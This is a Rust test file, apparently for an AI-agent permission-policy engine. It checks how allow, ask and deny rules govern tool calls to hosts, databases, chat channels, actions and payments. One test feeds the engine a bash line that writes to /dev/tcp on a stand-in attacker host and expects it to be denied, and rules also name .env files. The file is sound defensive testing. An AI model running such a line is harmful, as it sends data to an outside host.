//! The notation of rules: hosts, actions, databases and messages, what each rule reaches, and that
//! none of them weakens another. The guide's examples are read and tried.

use haft_contract::{
    Access,
    access::SoleAccess,
    host::Verdict::{Allow, Ask, Deny},
};
use haft_policy::{FindingKind, GrantRule};

use crate::world::{Call, check, path, policy, problem};

/// The page that says what may stand in a rule.
const GUIDE: &str = include_str!("../../../../docs/guide/rules.md");

fn host(name: &str) -> Access {
    Access::Host {
        host: name.to_owned(),
        port: 443,
    }
}

fn database(source: &str, writes: bool) -> Access {
    Access::Database {
        source: source.to_owned(),
        writes,
    }
}

fn message(channel: &str, target: &str) -> Access {
    Access::Message {
        channel: channel.to_owned(),
        target: target.to_owned(),
    }
}

/// A call of an embedder's tool.
fn call(tool: &str, access: Access) -> Call {
    Call::from("embedded", tool, vec![access])
}

fn custom(kind: &str, target: &str) -> Access {
    Access::custom(kind, target).unwrap()
}

/// The rules in the first column of the tables below a heading, until the next one.
fn rules_under(heading: &str) -> Vec<&'static str> {
    let (_, section) = GUIDE.split_once(heading).unwrap();
    let section = section.split_once("\n## ").map_or(section, |(one, _)| one);
    let cells = section.lines().filter_map(|line| line.strip_prefix("| `"));
    let rules: Vec<&str> = cells.filter_map(|rest| rest.split('`').next()).collect();
    assert!(rules.len() > 5, "{rules:?}");
    rules
}

#[test]
fn every_rule_of_the_guide_is_read_in_every_list_it_may_be_in() {
    for rule in rules_under("# The notation of rules") {
        for list in ["allow", "ask", "deny"] {
            let text = format!("[policy]\n{list} = [{rule:?}]");
            let rules = policy(&text);
            assert_eq!(rules.rules().count(), 1, "{text}");
        }
    }
}

#[test]
fn every_rule_the_guide_calls_refused_is_refused() {
    for rule in rules_under("## What is refused") {
        for list in ["allow", "ask", "deny"] {
            // In `allow` a command is spelt out, which may begin with a space.
            if list == "allow" && rule.starts_with("bash") {
                continue;
            }
            let refused = problem(&format!("[policy]\n{list} = [{rule:?}]"));
            assert!(refused.contains("hint:"), "{refused}");
        }
    }
}

#[test]
fn the_guides_policy_holds_its_own_examples() {
    let blocks: Vec<&str> = GUIDE
        .split("```toml\n")
        .skip(1)
        .filter_map(|rest| rest.split("```").next())
        .collect();
    assert!(!blocks.is_empty());
    for block in blocks {
        policy(block);
    }
}

#[test]
fn a_host_needs_no_word_before_it() {
    let rules = policy(
        "[policy]\nallow = ['deploy', 'look(docs.rs)']\ndeny = ['deploy(prod.example.com)']",
    );
    check(&rules, &call("deploy", host("prod.example.com")), Deny);
    check(&rules, &call("deploy", host("PROD.example.com.")), Deny);
    check(&rules, &call("deploy", host("db.prod.example.com")), Deny);
    check(&rules, &call("deploy", host("test.example.com")), Allow);
    check(&rules, &call("deploy", host("notprod.example.com")), Allow);
    let item = |name: &str| {
        let rules = policy("[policy]\nallow = ['@all(docs.rs)', 'look(docs.rs)']");
        let explained = rules.explain(&call("look", host(name)).question());
        explained.steps.last().unwrap().verdict
    };
    assert_eq!(item("docs.rs"), Allow);
    // In `allow` it is this host and no other.
    assert_eq!(item("x.docs.rs"), Ask);
    assert_eq!(item("docs.rs.evil.net"), Ask);
}

#[test]
fn an_address_is_denied_however_a_call_writes_it() {
    for rule in [
        "host(2001:db8::1)",
        "host([2001:DB8:0::1])",
        "deploy(::ffff:10.0.0.1)",
    ] {
        let rules = policy(&format!("[policy]\nallow = ['deploy']\ndeny = ['{rule}']"));
        let denied = match rule {
            "deploy(::ffff:10.0.0.1)" => ["10.0.0.1", "[::ffff:10.0.0.1]"],
            _ => ["2001:0db8:0:0::1", "[2001:db8::1]"],
        };
        for address in denied {
            check(&rules, &call("deploy", host(address)), Deny);
        }
        check(&rules, &call("deploy", host("2001:db8::2")), Allow);
    }
}

/// `*.rs` in `allow` was written for files.
#[test]
fn a_wildcard_over_files_allows_no_host() {
    let rules =
        policy("[policy]\npreset = \"locked\"\nallow = ['@all(*.rs)', '@all(*)', '@all(**)']");
    for name in ["evil.rs", "docs.rs", "x"] {
        let step = rules.explain(&call("look", host(name)).question());
        assert_eq!(step.decision.verdict, Deny, "{name}");
    }
}

#[test]
fn a_word_is_about_every_tool() {
    let rules = policy(
        "[policy]\nallow = ['a', 'b', 'bash']\ndeny = ['host(evil.example)', 'db(crm, writes)', 'message(slack:#ops)']",
    );
    for tool in ["a", "b"] {
        check(&rules, &call(tool, host("evil.example")), Deny);
        check(&rules, &call(tool, host("x.evil.example")), Deny);
        check(&rules, &call(tool, host("good.example")), Allow);
        check(&rules, &call(tool, database("crm", true)), Deny);
        check(&rules, &call(tool, database("crm", false)), Allow);
        check(&rules, &call(tool, database("billing", true)), Allow);
        check(&rules, &call(tool, message("slack", "#ops")), Deny);
        check(&rules, &call(tool, message("slack", "#dev")), Allow);
        check(&rules, &call(tool, message("mail", "#ops")), Allow);
    }
    // What a command names counts too.
    let bash = Call::bash("echo x > /dev/tcp/evil.example/80");
    check(&rules, &bash, Deny);
}

/// What may write also reads, so denying reads denies both, and allowing reads allows no write.
#[test]
fn reads_and_writes_of_a_database_are_told_apart() {
    for rule in ["report(db:crm, reads)", "db(crm, reads)", "db(cr*, reads)"] {
        let rules = policy(&format!("[policy]\nallow = ['report']\ndeny = ['{rule}']"));
        check(&rules, &call("report", database("crm", false)), Deny);
        check(&rules, &call("report", database("crm", true)), Deny);
        check(&rules, &call("report", database("other", true)), Allow);
        let rules = policy(&format!("[policy]\nallow = ['{rule}']"));
        let step = |writes| {
            let explained = rules.explain(&call("report", database("crm", writes)).question());
            explained.steps.last().unwrap().verdict
        };
        assert_eq!(step(false), Allow, "{rule}");
        assert_eq!(step(true), Ask, "{rule}");
    }
    let rules = policy("[policy]\nallow = ['report']\ndeny = ['report(db:crm, writes)']");
    check(&rules, &call("report", database("crm", false)), Allow);
    check(&rules, &call("report", database("crm", true)), Deny);
    // What a plan touches of a database, by its name and by that of a part.
    let rules = policy(
        "[policy]\nallow = ['report(crm)', 'db(shop.orders, reads)']\ndeny = ['db(crm.users.email)']",
    );
    for (source, expect) in [
        ("crm.users.name", Allow),
        ("crm.users.(rows)", Allow),
        ("crm.users.email", Deny),
        ("crm.users.*", Deny),
        ("crm", Deny),
        ("shop.orders.total", Allow),
        ("shop.orders.*", Allow),
        ("shop.users.name", Ask),
        ("crmx.users.name", Ask),
    ] {
        check(&rules, &call("report", database(source, false)), expect);
    }
    let denied = policy("[policy]\nallow = ['report']\ndeny = ['report(crm)']");
    check(
        &denied,
        &call("report", database("crm.users.name", false)),
        Deny,
    );
}

#[test]
fn a_rule_names_an_action_of_a_tool() {
    const ACTIONS: [&str; 3] = ["rollout", "rollback", "status"];
    let act = |action: &'static str| call("deploy", host("a.example")).action(action, &ACTIONS);
    let rules = policy(
        "[policy]\nallow = ['deploy(action:status)']\nask = ['deploy(action:roll*)']\ndeny = ['deploy(action:rollout)']",
    );
    // Everything that the call touches is allowed with it, as by `deploy`.
    check(&rules, &act("status"), Allow);
    check(&rules, &act("rollback"), Ask);
    check(&rules, &act("rollout"), Deny);
    let decision = act("rollout").decide(&rules);
    assert_eq!(decision.rule.unwrap().text, "deploy(action:rollout)");
    // The other actions stay, so the tool is shown.
    let shown = act("rollout").visibility(&rules);
    assert_eq!(shown, haft_contract::host::Visibility::Advertised);
    // Only a call of the action is one.
    let locked = policy("[policy]\npreset = 'locked'\nallow = ['deploy(action:status)']");
    check(&locked, &act("status"), Allow);
    check(&locked, &act("rollout"), Deny);
    check(&locked, &call("deploy", host("a.example")), Deny);
}

#[test]
fn a_rule_names_a_kind_of_a_tools_own() {
    let pay = |target: &str| call("pay", custom("payment", target));
    let rules = policy(
        "[policy]\nallow = ['pay(payment:eur/* to acme)']\nask = ['pay(payment:* to acme)']\ndeny = ['@all(payment:* to casino)']",
    );
    let verdict = |call: &Call| call.decide(&rules).verdict;
    assert_eq!(verdict(&pay("usd/1 to acme")), Ask);
    assert_eq!(verdict(&pay("eur/1 to casino")), Deny);
    assert_eq!(
        verdict(&call("give", custom("payment", "eur/1 to casino"))),
        Deny
    );
    let allowed = policy("[policy]\nallow = ['pay(payment:eur/* to acme)']");
    check(&allowed, &pay("eur/120 to acme"), Allow);
    check(&allowed, &pay("usd/120 to acme"), Ask);
    check(
        &allowed,
        &call("pay", custom("transfer", "eur/120 to acme")),
        Ask,
    );
    check(
        &allowed,
        &call("give", custom("payment", "eur/120 to acme")),
        Ask,
    );
    // Every preset asks, and the one that never asks denies.
    for (preset, expect) in [
        ("sandboxed", Ask),
        ("workspace", Ask),
        ("careful", Ask),
        ("locked", Deny),
    ] {
        let rules = policy(&format!("[policy]\npreset = '{preset}'"));
        check(&rules, &pay("eur/1 to acme"), expect);
    }
    // A rule over hosts cannot match a payment, so it denies.
    let rules = policy("[policy]\nallow = ['pay']\ndeny = ['pay(domain:acme.example)']");
    check(&rules, &pay("eur/1 to acme"), Deny);
}

/// `deny` goes over `ask` over `allow`, whatever the rules name.
#[test]
fn no_form_of_a_rule_weakens_another() {
    let forms = [
        (
            "deploy(a.example)",
            "deploy(domain:a.example)",
            host("a.example"),
        ),
        ("host(a.example)", "deploy(a.example)", host("a.example")),
        (
            "deploy(action:rollout)",
            "deploy(domain:*)",
            host("a.example"),
        ),
        ("db(crm)", "deploy(db:crm, writes)", database("crm", true)),
        ("deploy(crm)", "db(c*)", database("crm", true)),
        (
            "@all(payment:*)",
            "deploy(payment:eur/1)",
            custom("payment", "eur/1"),
        ),
        (
            "message(slack:*)",
            "deploy(slack:#ops)",
            message("slack", "#ops"),
        ),
        (
            "deploy(message:slack:#ops)",
            "@all(slack:#ops)",
            message("slack", "#ops"),
        ),
    ];
    for (one, other, access) in forms {
        for (weak, strong) in [(one, other), (other, one)] {
            let act = call("deploy", access.clone()).action("rollout", &["rollout"]);
            let denied = policy(&format!(
                "[policy]\nallow = ['{weak}']\ndeny = ['{strong}']"
            ));
            check(&denied, &act, Deny);
            let denied = policy(&format!("[policy]\nask = ['{weak}']\ndeny = ['{strong}']"));
            check(&denied, &act, Deny);
            let asked = policy(&format!("[policy]\nallow = ['{weak}']\nask = ['{strong}']"));
            check(&asked, &act, Ask);
        }
    }
}

/// What such a rule would let through was denied before there were hosts without `domain:`.
#[test]
fn a_rule_that_cannot_match_denies() {
    for (rule, access) in [
        ("deploy(production)", host("a.example")),
        ("deploy(*.rs)", host("a.rs")),
        ("deploy(db:crm)", host("a.example")),
        ("deploy(message:slack:*)", database("crm", true)),
        ("deploy(domain:a.example)", message("slack", "#ops")),
        ("deploy(action:rollout)", host("a.example")),
        ("deploy(src/**)", host("src")),
    ] {
        let rules = policy(&format!("[policy]\nallow = ['deploy']\ndeny = ['{rule}']"));
        let decision = call("deploy", access).decide(&rules);
        assert_eq!(decision.verdict, Deny, "{rule}: {}", decision.reason);
        assert!(
            decision.reason.contains("write `deploy"),
            "{}",
            decision.reason
        );
    }
    // The tool of that name was meant.
    let rules = policy("[policy]\nallow = ['embedded/db']\ndeny = ['db(private)']");
    check(&rules, &call("db", Access::read(path("private/a"))), Deny);
}

/// A tool that only connects to hosts, or only queries databases.
fn sole(provider: &str, tool: &str) -> Call {
    let (access, kind) = match tool {
        "database_query" => (database("crm.orders.id", false), SoleAccess::Databases),
        _ => (host("docs.rs"), SoleAccess::Hosts),
    };
    let mut call = Call::from(provider, tool, vec![access]).touches_only(kind);
    if tool == "find_issues" {
        call.groups = vec!["http"];
    }
    call
}

#[test]
fn a_rule_that_names_nothing_its_tool_touches_is_a_mistake_with_the_form() {
    let tools = ["find_issues", "web_fetch", "database_query"].map(|tool| sole("builtin", tool));
    let plain = Call::from("embedded", "deploy", vec![host("docs.rs")]);
    let facts: Vec<_> = tools.iter().chain([&plain]).map(Call::facts).collect();
    let found = |rule: &str, list: &str| -> Vec<String> {
        let rules = policy(&format!("[policy]\n{list} = ['{rule}']"));
        let findings = rules.lint(&facts);
        findings
            .iter()
            .map(|finding| format!("{:?} {finding}; {}", finding.rule.line, finding.hint()))
            .collect()
    };
    for (rule, form) in [
        ("find_issues(127.0.0.1:18080)", "`find_issues(127.0.0.1)`"),
        (
            "find_issues(http://127.0.0.1:18080)",
            "`find_issues(127.0.0.1)`",
        ),
        ("find_issues(127.0.0.1/v2/*)", "`find_issues(127.0.0.1)`"),
        ("find_issues(http://[::1]:80/*)", "`find_issues([::1])`"),
        (
            "find_issues(production)",
            "`find_issues(domain:production)`",
        ),
        ("find_issues(GET *)", "`find_issues(domain:NAME)`"),
        ("find_issues(action:get)", "without a pattern"),
        (
            "builtin/find_issues(production)",
            "`builtin/find_issues(domain:production)`",
        ),
        ("@http(127.0.0.1:18080)", "`@http(127.0.0.1)`"),
        ("@all(https://docs.rs/*)", "`@all(docs.rs)`"),
        ("find_*(docs.rs:443)", "`find_*(docs.rs)`"),
        ("web_fetch(docs.rs:443)", "`web_fetch(docs.rs)`"),
        ("web_fetch(https://docs.rs/*)", "`web_fetch(docs.rs)`"),
        ("web_fetch(docs.rs/*)", "`web_fetch(docs.rs)`"),
        ("web_fetch(db:crm)", "`web_fetch(domain:NAME)`"),
        (
            "database_query(crm.orders)",
            "`database_query(db:crm.orders)`",
        ),
        (
            "database_query(crm, reads)",
            "`database_query(db:crm, reads)`",
        ),
        ("database_query(docs.rs)", "`database_query(db:docs.rs)`"),
        (
            "database_query(domain:docs.rs)",
            "`database_query(db:NAME)`",
        ),
    ] {
        for list in ["allow", "ask", "deny"] {
            let found = found(rule, list);
            let [one] = found.as_slice() else {
                panic!("{list} {rule}: {found:?}");
            };
            assert!(
                one.contains(form) && one.starts_with("Some(2) "),
                "{list}: {one}"
            );
        }
    }
    // In `allow`, a wildcard without `domain:` names files.
    assert_eq!(found("web_fetch(*.example.com)", "allow").len(), 1);
    for rule in [
        "web_fetch(docs.rs)",
        "web_fetch(domain:production)",
        "web_fetch(domain:*.example.com)",
        "web_fetch(::1)",
        "web_fetch",
        "@http(10.0.0.1)",
        "@all(payment:*)",
        "@all(db:crm)",
        "@all(slack:#ops)",
        "database_query(db:crm.orders, writes)",
        "host(docs.rs)",
        "db(crm)",
        "deploy(production)",
        "deploy(127.0.0.1:80)",
        "edit(docs/**)",
        "read(**/.env)",
        "bash(git push *)",
    ] {
        for list in ["allow", "deny"] {
            let edit = Call::write("docs/a");
            let known: Vec<_> = [
                Call::bash("ls"),
                Call::read("a"),
                Call::of("edit", edit.parts.accesses),
            ]
            .into_iter()
            .collect();
            let known = known.iter().map(Call::facts).chain(facts.iter().copied());
            let rules = policy(&format!("[policy]\n{list} = ['{rule}']"));
            let found = rules.lint(&known.collect::<Vec<_>>());
            let mut found = found.iter().map(|finding| &finding.kind);
            let missed = |kind: &FindingKind| matches!(kind, FindingKind::NotTouched { .. });
            assert!(!found.any(missed), "{list} {rule}");
        }
    }
}

/// `host(127.0.0.*)` let `http://localhost/` through, and in `allow` it was also `127.0.0.evil.com`.
#[test]
fn a_wildcard_of_addresses_is_refused() {
    for rule in [
        "host(127.0.0.*)",
        "host(10.*)",
        "host(*.0.0.1)",
        "deploy(domain:127.*.0.1)",
        "@all(domain:192.168.*)",
    ] {
        for list in ["allow", "ask", "deny"] {
            let said = problem(&format!("[policy]\n{list} = ['{rule}']"));
            assert!(
                said.contains("haft.toml:2") && said.contains("host(10.0.0.1)"),
                "{said}"
            );
        }
    }
    let rules = policy("[policy]\nallow = ['web_fetch']\ndeny = ['web_fetch(127.0.0.*)']");
    check(&rules, &sole("builtin", "web_fetch"), Deny);
}

/// Nothing has to be checked beforehand for a rule to hold.
#[test]
fn a_call_of_a_tool_that_a_rule_misses_is_denied() {
    for (tool, rule) in [
        ("find_issues", "find_issues(127.0.0.1:18080)"),
        ("find_issues", "find_issues(production)"),
        ("find_issues", "builtin/find_issues(GET *)"),
        ("web_fetch", "web_fetch(docs.rs:443)"),
        ("web_fetch", "web_fetch(https://docs.rs/*)"),
        ("database_query", "database_query(crm.orders)"),
        ("database_query", "database_query(crm, reads)"),
        ("database_query", "database_query(orders)"),
    ] {
        let call = sole("builtin", tool);
        for list in ["deny", "ask"] {
            let rules = policy(&format!(
                "[policy]\nallow = ['{tool}']\n{list} = ['{rule}']"
            ));
            let decision = call.decide(&rules);
            assert_eq!(decision.verdict, Deny, "{rule}: {}", decision.reason);
            assert!(decision.reason.contains("write `"), "{}", decision.reason);
        }
        let elsewhere = format!("[policy]\nallow = ['{tool}']\n[agents.other]\ndeny = ['{rule}']");
        let rules = policy(&format!("{elsewhere}\n[agents.main]\nallow = ['grep']"));
        check(&rules, &call, Allow);
    }
    let rules = policy("[policy]\nallow = ['web_fetch']\ndeny = ['web_fetch(evil.example)']");
    check(&rules, &sole("builtin", "web_fetch"), Allow);
    let rules =
        policy("[policy]\nallow = ['database_query']\ndeny = ['database_query(db:crm.users)']");
    check(&rules, &sole("builtin", "database_query"), Allow);
}

#[test]
fn the_lint_knows_actions_and_tools_with_the_name_of_a_word() {
    let deploy = call("deploy", host("a.example")).action("rollout", &["rollout", "status"]);
    let found = |rules: &str, tools: &[&Call]| -> Vec<String> {
        let rules = policy(&format!("[policy]\ndeny = ['{rules}']"));
        let facts: Vec<_> = tools.iter().map(|call| call.facts()).collect();
        let findings = rules.lint(&facts);
        findings
            .iter()
            .map(|finding| format!("{finding}; {}", finding.hint()))
            .collect()
    };
    assert!(found("deploy(action:rollout)", &[&deploy]).is_empty());
    assert!(found("deploy(action:roll*)", &[&deploy]).is_empty());
    assert!(found("@all(action:status)", &[&deploy]).is_empty());
    for rule in ["deploy(action:rolout)", "@all(action:rolout)"] {
        assert_eq!(
            found(rule, &[&deploy]),
            [format!(
                "`{rule}` can never match: the tool has no such action; did you mean `action:rollout`?"
            )]
        );
    }
    // Nothing could say later that such a rule is without effect.
    for rule in [
        "mcp__github__*(action:delete)",
        "future:@payments(action:refund)",
    ] {
        assert_eq!(found(rule, &[&deploy]).len(), 1, "{rule}");
    }
    assert!(found("future:refund(action:all)", &[&deploy]).is_empty());
    let db = call("db", host("a.example"));
    assert_eq!(
        found("db(crm)", &[&db]),
        [
            "`db(crm)` is not about the tool `db`, which exists; write `PROVIDER/db(…)` for the tool, or \
          `@all(db:…)` for what every tool does"
        ]
    );
    for rule in ["db", "embedded/db(crm)", "@all(db:crm)"] {
        assert!(found(rule, &[&db]).is_empty(), "{rule}");
    }
    assert!(found("db(crm)", &[&deploy]).is_empty());
}

/// A person who was asked about a file did not answer about a host of that name, nor about another
/// action.
#[test]
fn a_grant_covers_no_more_than_it_did() {
    let granted = |rule: &str, call: &Call| {
        let grants = [crate::grants::grant(rule)];
        let rules = policy("");
        let question = haft_contract::host::Question {
            grants: &grants,
            ..call.question()
        };
        haft_contract::host::Policy::decide(&rules, &question).verdict
    };
    let builtin = |access| Call::of("look", vec![access]);
    assert_eq!(granted("look(README.md)", &builtin(host("readme.md"))), Ask);
    assert_eq!(
        granted("look(domain:readme.md)", &builtin(host("readme.md"))),
        Allow
    );
    assert_eq!(
        granted("look(db:crm, reads)", &builtin(database("crm", false))),
        Allow
    );
    assert_eq!(
        granted("look(db:crm, reads)", &builtin(database("crm", true))),
        Ask
    );
    assert_eq!(
        granted(
            "look(message:slack:#ops)",
            &builtin(message("slack", "#ops"))
        ),
        Allow
    );
    assert_eq!(
        granted(
            "look(message:slack:#ops)",
            &builtin(message("slack", "#dev"))
        ),
        Ask
    );
    let pay = |target: &str| builtin(custom("payment", target));
    assert_eq!(granted("look(payment:eur/1)", &pay("eur/1")), Allow);
    assert_eq!(granted("look(payment:eur/1)", &pay("eur/10")), Ask);
    let act = |action| {
        let call = call("deploy", host("a.example"));
        call.action(action, &["rollout", "status"])
    };
    assert_eq!(granted("deploy(action:status)", &act("status")), Allow);
    assert_eq!(granted("deploy(action:status)", &act("rollout")), Ask);
    let meaning = GrantRule::parse("deploy(action:status)").unwrap().meaning();
    assert_eq!(meaning, "every use of `deploy` for its action `status`");
    assert!(
        GrantRule::parse("db(crm)").is_err(),
        "more tools than it names"
    );
}
